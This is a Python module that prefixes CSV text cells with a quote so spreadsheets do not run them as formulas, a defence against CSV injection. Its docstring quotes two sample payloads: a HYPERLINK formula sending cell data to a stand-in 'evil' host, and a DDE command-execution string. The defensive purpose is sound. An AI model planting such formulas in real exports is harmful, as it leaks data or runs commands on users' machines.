"""CSV cells that a spreadsheet will not run: formula neutralisation for every CSV Quorum writes.

Item text, metadata and external ids are hostile, and a spreadsheet opening a CSV runs a cell
that begins with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return before one) as a
formula: `=HYPERLINK("https://evil/?"&A1)`, `+cmd|' /C calc'!A0`. Every CSV writer of Quorum
(delivery files, import error reports, error bodies as CSV) passes its text cells through
`csv_cell`, which prefixes such a cell with a single quote, the form spreadsheets show as text
(OWASP's advice). Only text is touched: numbers, booleans and empty cells are written as they
are. JSON Lines and Parquet keep the exact values, so a consumer who needs the original reads
those.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The first characters a spreadsheet may take as the start of a formula.
FORMULA_PREFIXES = frozenset("=+-@\t\r")
NEUTRALISED_BY = "'"
MANIFEST_NOTE = (
    "In CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return is prefixed "
    "with a single quote (') so that spreadsheets do not run it as a formula. JSON Lines and Parquet "
    "files carry the exact values."
)


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell: text beginning with a formula character gets a leading quote;
    anything else (other text, numbers, None) is returned unchanged."""
    if value.__class__ is str and value and value[0] in FORMULA_PREFIXES:
        return NEUTRALISED_BY + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A whole row through csv_cell."""
    return [csv_cell(value) for value in values]


def csv_column(values: Iterable[Any]) -> list[Any]:
    """A column of a batch through csv_cell (the delivery writer's per-column path)."""
    prefixes = FORMULA_PREFIXES
    return [
        NEUTRALISED_BY + value if value.__class__ is str and value and value[0] in prefixes else value
        for value in values
    ]
